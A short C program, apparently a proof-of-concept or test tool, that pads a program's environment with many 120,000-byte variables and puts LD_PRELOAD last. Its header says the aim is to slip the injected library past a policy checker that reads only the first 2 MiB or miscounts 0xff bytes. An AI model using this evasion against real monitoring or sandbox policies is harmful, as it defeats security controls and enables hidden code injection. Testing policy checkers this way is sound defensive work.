/*
 * big_env: execs PROGRAM with N padding variables of 120,000 bytes each (MODE "ff": bytes 0xff,
 * not UTF-8; "ascii": 'a') and LD_PRELOAD=LIB last, after raising its stack limit to 64 MiB so
 * that the kernel takes up to 6 MiB of arguments. A policy that reads only the first 2 MiB (or
 * counts a 0xff as the 3 bytes of U+FFFD) never sees the LD_PRELOAD the new program gets.
 *
 * usage: big_env MODE N LIB PROGRAM
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: big_env ff|ascii N LIB PROGRAM\n");
        return 2;
    }
    struct rlimit r;
    getrlimit(RLIMIT_STACK, &r);
    r.rlim_cur = 64 << 20;
    if (r.rlim_max != RLIM_INFINITY && r.rlim_cur > r.rlim_max) {
        r.rlim_cur = r.rlim_max;
    }
    if (setrlimit(RLIMIT_STACK, &r) != 0) {
        perror("setrlimit");
        return 1;
    }
    int n = atoi(argv[2]);
    int pad = strcmp(argv[1], "ff") == 0 ? 0xff : 'a';
    char **env = calloc(n + 2, sizeof(char *));
    for (int i = 0; i < n; i++) {
        size_t len = 120000;
        env[i] = malloc(len + 16);
        int at = sprintf(env[i], "P%d=", i);
        memset(env[i] + at, pad, len);
        env[i][at + len] = 0;
    }
    char *preload = malloc(strlen(argv[3]) + 16);
    sprintf(preload, "LD_PRELOAD=%s", argv[3]);
    env[n] = preload;
    char *args[] = {argv[4], NULL};
    execve(argv[4], args, env);
    perror("execve");
    return 1;
}
